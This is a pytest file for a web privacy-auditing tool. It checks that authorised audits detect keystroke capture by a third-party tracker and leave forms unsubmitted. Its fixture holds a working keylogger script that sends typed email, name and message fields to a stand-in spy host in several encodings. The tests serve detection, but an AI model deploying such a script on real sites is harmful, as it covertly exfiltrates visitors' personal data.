"""What an authorised visitor does: types canaries that are followed wherever they go, and clicks what is harmless."""

from __future__ import annotations

import pytest
from aiohttp import web as aiohttp_web

from policywitness.bundle.reader import Evidence
from policywitness.cli import execute as run
from policywitness.demo.server import Web, html, js
from policywitness.model.audit import Audit

pytestmark = pytest.mark.browser

SITE = "www.site.example"
SPY = "spy.tracker.example"
PAGE = f"""<!doctype html><html lang=en><title>Contact</title>
<form action=/send method=post><input name=your-name><input type=email name=email><textarea name=message></textarea>
<input type=password name=pw><button>Send</button></form>
<button type=button onclick="document.cookie='clicked=harmless-click-1'">Show more</button>
<button type=button onclick="document.cookie='bought=yes'">Buy now</button>
<div class=cookie-banner><button type=button onclick="document.cookie='agreed=yes'">OK then</button></div>
<script src=https://{SPY}/spy.js></script>"""
SPY_JS = f"""
const send = (path, body) => fetch('https://{SPY}/' + path, {{method: 'POST', mode: 'no-cors', body}});
const hex = async (name, text) => [...new Uint8Array(await crypto.subtle.digest(name, new TextEncoder().encode(text)))]
  .map(b => b.toString(16).padStart(2, '0')).join('');
document.querySelector('[name=email]').addEventListener('blur', async event => {{
  new Image().src = 'https://{SPY}/pixel.gif?e=' + encodeURIComponent(event.target.value);
  send('hash', 'em=' + await hex('SHA-256', event.target.value));
  send('sha1', 'em=' + (await hex('SHA-1', event.target.value)).toUpperCase());
}});
document.querySelector('[name=message]').addEventListener('blur', event => send('plain', JSON.stringify({{v: event.target.value}})));
const socket = new WebSocket('wss://{SPY}/socket');
document.querySelector('[name=your-name]').addEventListener('blur', event => {{
  send('b64', 'd=' + btoa(event.target.value));
  socket.send(new Uint8Array([0x81, 0xa1, 0xff, ...new TextEncoder().encode(event.target.value.toUpperCase()), 0xc0]));
}});
"""


def audit(web: Web, out, *options: str) -> Audit:
    resolve = [part for rule in web.resolve for part in ("--resolve", rule)]
    quick = ["--scenario", "baseline", "--repeats", "1", "--max-pages", "1", "--as-of", "2026-11-23", "--out", str(out)]
    assert run(["audit", f"https://{SITE}/", *quick, *resolve, "--ca-cert", str(web.ca_pem), *options]) == 0
    return Audit.model_validate_json((out / "audit.json").read_bytes())


@pytest.fixture
def web():
    async def socket(request: aiohttp_web.Request) -> aiohttp_web.WebSocketResponse:
        response = aiohttp_web.WebSocketResponse()
        await response.prepare(request)
        async for _ in response:
            pass
        return response

    answer = html("ok")
    spy = {"/spy.js": js(SPY_JS), "/socket": socket, "/*": answer}
    with Web({SITE: {"/": html(PAGE), "/send": answer}, SPY: spy}) as served:
        yield served


def test_typed_text_is_followed_in_every_encoding_and_never_submitted(web, tmp_path):
    document = audit(web, tmp_path / "b", "--authorised-by", "The owner, ticket 1")
    labels = {label.label for label in document.labels if label.host == SPY}
    assert {"keylog.plaintext", "keylog.urlencoded", "keylog.base64", "keylog.sha1", "keylog.sha256"} <= labels
    assert not web.requests(SITE, "/send"), "a form was submitted"
    assert document.provenance.authorised_by == "The owner, ticket 1"
    sockets = [row for row in Evidence.read(tmp_path / "b").requests if row.url == f"wss://{SPY}/socket"]
    assert any("|case⟩" in (row.post_data or "") for row in sockets), (
        "in capital letters, among bytes, in a WebSocket's message"
    )
    everything = b"".join(path.read_bytes() for path in (tmp_path / "b").rglob("*") if path.is_file())
    for planted in (b"canary.example", b"Quillon", b"QUILLON", b"canary sang", b"Canary-", b"-Pass!7"):
        assert planted not in everything


def test_harmless_controls_are_clicked_and_others_left_alone(web, tmp_path):
    names = {cookie.name for cookie in audit(web, tmp_path / "b", "--authorised-by", "The owner").cookies}
    assert "clicked" in names
    assert not {"bought", "agreed"} & names


def test_without_authorisation_nothing_is_typed_or_clicked(web, tmp_path):
    document = audit(web, tmp_path / "b")
    assert not [label for label in document.labels if label.label.startswith("keylog")]
    assert "clicked" not in {cookie.name for cookie in document.cookies}
